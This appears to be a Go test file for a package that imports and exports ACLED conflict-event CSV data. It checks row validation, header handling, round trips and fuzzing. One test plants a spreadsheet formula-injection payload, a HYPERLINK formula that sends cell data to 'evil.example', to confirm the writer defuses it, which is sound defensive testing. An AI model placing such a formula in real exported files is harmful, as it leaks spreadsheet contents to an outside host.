package geo

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
)

const acledHeader = "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,actor2,country,admin1,admin2,location,latitude,longitude,geo_precision,source,notes,fatalities"

// acledGood is a row as ACLED exports it: the old date layout, extra
// columns Frontier ignores.
const acledGood = `KGZ9001,16 September 2022,2022,1,Political violence,Battles,Armed clash,Military Forces of Kyrgyzstan (2021-),Military Forces of Tajikistan (1994-),Kyrgyzstan,Batken,Batken,Batken,40.05,70.816667,1,Kabar; AKIpress,"Clashes along the border, shelling reported.",3`

// acledRow is acledGood with one column replaced.
func acledRow(t testing.TB, col, v string) string {
	t.Helper()
	head := strings.Split(acledHeader, ",")
	rd, err := NewACLEDReader(strings.NewReader(acledHeader + "\n" + acledGood + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	rec, err := rd.r.Read()
	if err != nil {
		t.Fatal(err)
	}
	rec = append([]string(nil), rec...)
	rec[0] = "KGZ9099"
	for i, h := range head {
		if h == col {
			rec[i] = v
		}
	}
	var b bytes.Buffer
	w := newCSVWriter(&b)
	w.Write(rec)
	w.Flush()
	return strings.TrimSuffix(b.String(), "\n")
}

func readAllACLED(t testing.TB, text string) []Row {
	t.Helper()
	rd, err := NewACLEDReader(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return readRows(t, rd)
}

func TestACLEDGoodRow(t *testing.T) {
	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n"+strings.Replace(acledGood, "KGZ9001,16 September 2022", "KGZ9002,2022-09-17", 1)+"\n")
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	for _, r := range rows {
		if r.Err != nil {
			t.Fatalf("line %d: %v", r.Line, r.Err)
		}
	}
	e := event(rows[0])
	if e.ID != "KGZ9001" || e.DateStart.String() != "2022-09-16" || e.DateEnd != e.DateStart || e.TimePrecision != PrecisionDay {
		t.Errorf("id/dates: %+v", e)
	}
	if e.Location == nil || e.Location[0] != 70.816667 || e.Location[1] != 40.05 || e.GeoPrecision != ExactPlace {
		t.Errorf("location %v precision %d", e.Location, e.GeoPrecision)
	}
	if e.Title != "Armed clash at Batken" || e.EventType != "Battles" || len(e.Actors) != 2 || e.Admin1 != "Batken" || e.Country != "Kyrgyzstan" {
		t.Errorf("fields: %+v", e)
	}
	if lo, hi, ok := e.Figures("killed"); !ok || lo != 3 || hi != 3 || e.Claims[0].Claimant != "ACLED" {
		t.Errorf("fatalities claim %+v", e.Claims)
	}
	if len(rows[0].Sources) != 1 || rows[0].Sources[0].ID != e.Sources[0] || rows[0].Sources[0].Publisher != "Kabar; AKIpress" || rows[0].Sources[0].Note == "" {
		t.Errorf("source %+v for %v", rows[0].Sources, e.Sources)
	}
	if len(rows[1].Sources) != 0 || event(rows[1]).Sources[0] != e.Sources[0] {
		t.Errorf("the second row names the same source: it should bring no new one, got %+v", rows[1].Sources)
	}
	if event(rows[1]).DateStart.String() != "2022-09-17" {
		t.Errorf("ISO date read as %s", event(rows[1]).DateStart)
	}
}

// TestACLEDBadRows is the check a data desk relies on: each bad row is
// reported with its line and the column to fix.
func TestACLEDBadRows(t *testing.T) {
	tests := []struct {
		name, col, value string
		field, says      string
	}{
		{"latitude past the pole", "latitude", "95.2", "latitude", "latitude 95.2 is outside -90..90"},
		{"latitude below the pole", "latitude", "-91", "latitude", "is outside -90..90"},
		{"longitude past 180", "longitude", "181", "longitude", "longitude 181 is outside -180..180"},
		{"longitude not a number", "longitude", "abc", "longitude", "abc is not a number"},
		{"latitude with a decimal comma", "latitude", "40,05", "latitude", "is not a number"},
		{"latitude NaN", "latitude", "NaN", "latitude", "is not a number"},
		{"longitude infinite", "longitude", "Inf", "longitude", "is not a number"},
		{"latitude missing", "latitude", "", "latitude", "missing"},
		{"longitude missing", "longitude", "", "longitude", "missing"},
		{"latitude and longitude swapped", "latitude", "70.816667", "latitude/longitude", "outside the region"},
		{"a point in Europe", "longitude", "2.35", "latitude/longitude", "outside the region"},
		{"date missing", "event_date", "", "event_date", "missing"},
		{"month 13", "event_date", "2022-13-01", "event_date", "is not a date"},
		{"day first with slashes", "event_date", "16/09/2022", "event_date", "is not a date"},
		{"month only", "event_date", "September 2022", "event_date", "is not a date"},
		{"no 29 February in 2023", "event_date", "29 February 2023", "event_date", "is not a date"},
		{"time precision 4", "time_precision", "4", "time_precision", "4 is outside 1..3"},
		{"time precision 0", "time_precision", "0", "time_precision", "is outside 1..3"},
		{"time precision a word", "time_precision", "day", "time_precision", "is not a whole number"},
		{"time precision missing", "time_precision", "", "time_precision", "missing"},
		{"event type missing", "event_type", "", "event_type", "missing"},
		{"geo precision 0", "geo_precision", "0", "geo_precision", "is outside 1..3"},
		{"geo precision 5", "geo_precision", "5", "geo_precision", "is outside 1..3"},
		{"geo precision negative", "geo_precision", "-1", "geo_precision", "is outside 1..3"},
		{"geo precision a fraction", "geo_precision", "1.5", "geo_precision", "is not a whole number"},
		{"geo precision missing", "geo_precision", "", "geo_precision", "missing"},
		{"source missing", "source", "", "source", "no source cited"},
		{"fatalities negative", "fatalities", "-1", "fatalities", "is outside 0..1000000"},
		{"fatalities a word", "fatalities", "many", "fatalities", "is not a whole number"},
		{"fatalities a fraction", "fatalities", "2.5", "fatalities", "is not a whole number"},
		{"fatalities absurd", "fatalities", "2000000", "fatalities", "is outside"},
		{"id missing", "event_id_cnty", "", "event_id_cnty", "missing"},
		{"id used twice", "event_id_cnty", "KGZ9001", "event_id_cnty", `"KGZ9001" is also on line 2`},
	}
	if len(tests) < 30 {
		t.Fatalf("only %d bad rows", len(tests))
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// The good row first, so that the bad one is on line 3 and a
			// duplicate id has something to repeat.
			text := acledHeader + "\n" + acledGood + "\n" + acledRow(t, tt.col, tt.value) + "\n"
			rows := readAllACLED(t, text)
			if len(rows) != 2 || rows[0].Err != nil {
				t.Fatalf("rows %+v", rows)
			}
			bad := rows[1]
			if bad.Err == nil || event(bad) != nil {
				t.Fatalf("line 3 (%s=%q) was accepted", tt.col, tt.value)
			}
			errs := bad.Errors()
			if len(errs) == 0 {
				t.Fatalf("no RowError in %v", bad.Err)
			}
			found := false
			for _, e := range errs {
				if len(errs) > 1 {
					t.Errorf("%d errors for one bad field: %v", len(errs), bad.Err)
				}
				if e.Line != 3 {
					t.Errorf("error on line %d, want 3: %v", e.Line, e)
				}
				if e.Field == tt.field && strings.Contains(e.Error(), tt.says) && strings.HasPrefix(e.Error(), "line 3: "+tt.field) {
					found = true
				}
			}
			if !found {
				t.Errorf("got %q; want line 3, field %s, saying %q", bad.Err, tt.field, tt.says)
			}
		})
	}
}

func TestACLEDBareQuote(t *testing.T) {
	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n"+`KGZ9003,16 September 2022,2022,1,x,Battles,Armed "clash,a,b,c,d,e,f,40,70,1,s,n,0`+"\n")
	if len(rows) != 2 || rows[1].Err == nil || !strings.HasPrefix(rows[1].Err.Error(), "line 3: ") {
		t.Fatalf("rows %+v", rows)
	}
}

func TestACLEDHeader(t *testing.T) {
	_, err := NewACLEDReader(strings.NewReader("id,date,lat,lon\n1,2,3,4\n"))
	if !errors.Is(err, ErrHeader) || !strings.Contains(err.Error(), "event_id_cnty") {
		t.Errorf("got %v", err)
	}
	_, err = NewACLEDReader(strings.NewReader(""))
	if !errors.Is(err, ErrHeader) {
		t.Errorf("empty file: %v", err)
	}
	// A byte-order mark, as Excel writes, and upper-case names are fine.
	rows := readAllACLED(t, "\ufeff"+strings.ToUpper(acledHeader)+"\n"+acledGood+"\n")
	if len(rows) != 1 || rows[0].Err != nil {
		t.Errorf("BOM and upper case: %+v", rows)
	}
}

// TestACLEDRoundTrip writes events back in the ACLED layout and reads them
// again: what import accepts, export gives back.
func TestACLEDRoundTrip(t *testing.T) {
	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n")
	e := *event(rows[0])
	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
	b := writeACLED(t, idx, e)
	back := readAllACLED(t, b)
	if len(back) != 1 || back[0].Err != nil {
		t.Fatalf("%+v", back)
	}
	if !reflect.DeepEqual(*event(back[0]), e) {
		t.Errorf("round trip:\n got %+v\nwant %+v", *event(back[0]), e)
	}
}

// TestACLEDUnlocated: a row with both coordinates blank is an event no
// source locates, and reads back as one; with one blank it is refused.
func TestACLEDUnlocated(t *testing.T) {
	text := acledRow(t, "latitude", "")
	text = acledHeader + "\n" + strings.Replace(text, ",70.816667,1,", ",,0,", 1) + "\n"
	rows := readAllACLED(t, text)
	if len(rows) != 1 || rows[0].Err != nil {
		t.Fatalf("an unlocated row: %+v", rows)
	}
	e := *event(rows[0])
	if e.Location != nil || e.LocationBasis != "" {
		t.Errorf("an unlocated row read with a point %v (%q)", e.Location, e.LocationBasis)
	}
	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
	back := readAllACLED(t, writeACLED(t, idx, e))
	if len(back) != 1 || back[0].Err != nil || !reflect.DeepEqual(*event(back[0]), e) {
		t.Errorf("round trip of an unlocated event: %+v", back)
	}
	bad := readAllACLED(t, acledHeader+"\n"+strings.Replace(text[len(acledHeader)+1:], ",,0,", ",,2,", 1))
	if len(bad) != 1 || bad[0].Err == nil || !strings.Contains(bad[0].Err.Error(), "geo_precision") {
		t.Errorf("a precision for no coordinates: %+v", bad)
	}
}

func FuzzACLED(f *testing.F) {
	f.Add(acledGood)
	f.Add(strings.Replace(acledGood, "40.05", "95.2", 1))
	f.Add(`a,2022-01-01,,2,,Riots,,,,,,,,39.9,70.5,2,"x ""y""",,`)
	f.Fuzz(func(t *testing.T, line string) {
		rd, err := NewACLEDReader(strings.NewReader(acledHeader + "\n" + line + "\n"))
		if err != nil {
			t.Fatal(err)
		}
		var srcs []Source
		var evs []Event
		for {
			r, err := rd.Read()
			if err != nil {
				break
			}
			if r.Err == nil {
				if event(r) == nil {
					t.Fatal("a row with no error and no event")
				}
				evs = append(evs, *event(r))
				srcs = append(srcs, r.Sources...)
			} else if len(r.Errors()) == 0 {
				t.Fatalf("error %v names no row", r.Err)
			}
		}
		idx := SourceIndex{}
		for _, s := range srcs {
			idx[s.ID] = s
		}
		var b bytes.Buffer
		w, _ := NewACLEDWriter(&b, idx)
		for _, e := range evs {
			w.Write(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rd, err = NewACLEDReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; ; i++ {
			r, err := rd.Read()
			if err != nil {
				if i != len(evs) {
					t.Fatalf("read back %d events of %d", i, len(evs))
				}
				break
			}
			if r.Err != nil {
				t.Fatalf("written row does not read back: %v", r.Err)
			}
			if !reflect.DeepEqual(*event(r), evs[i]) {
				t.Fatalf("round trip:\n got %+v\nwant %+v", *event(r), evs[i])
			}
		}
	})
}

func newCSVWriter(w io.Writer) *csv.Writer { return csv.NewWriter(w) }

// TestACLEDFormulaCells: text a spreadsheet would run as a formula is
// written with a leading ', and reads back as it was.
func TestACLEDFormulaCells(t *testing.T) {
	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n")
	e := *event(rows[0])
	e.Actors = []string{`=HYPERLINK("http://evil.example/?"&A1;"click")`, "@evil"}
	e.Notes = "-2 shells, +1 mortar"
	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
	b := writeACLED(t, idx, e)
	recs, err := csv.NewReader(strings.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || strings.HasPrefix(cell, "-") && !isNumber(cell) {
			t.Errorf("cell %q would run as a formula", cell)
		}
	}
	back := readAllACLED(t, b)
	if len(back) != 1 || back[0].Err != nil {
		t.Fatalf("%+v", back)
	}
	if got := *event(back[0]); !reflect.DeepEqual(got, e) {
		t.Errorf("round trip:\n got %+v\nwant %+v", got, e)
	}
}

func isNumber(s string) bool { _, err := strconv.ParseFloat(s, 64); return err == nil }

// writeACLED writes events in the ACLED layout.
func writeACLED(t *testing.T, idx SourceIndex, evs ...Event) string {
	t.Helper()
	var b bytes.Buffer
	if n, err := WriteACLED(context.Background(), &b, idx, slices.Values(evs)); err != nil || n != len(evs) {
		t.Fatalf("wrote %d of %d events: %v", n, len(evs), err)
	}
	return b.String()
}

func TestWriteACLEDStops(t *testing.T) {
	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if n, err := WriteACLED(ctx, &bytes.Buffer{}, nil, slices.Values([]Event{*event(rows[0])})); !errors.Is(err, context.Canceled) || n != 0 {
		t.Errorf("a cancelled write: %d events, %v", n, err)
	}
	if _, err := WriteACLED(context.Background(), failWriter{}, nil, slices.Values([]Event{*event(rows[0])})); err == nil {
		t.Error("a failed write reported no error")
	}
}
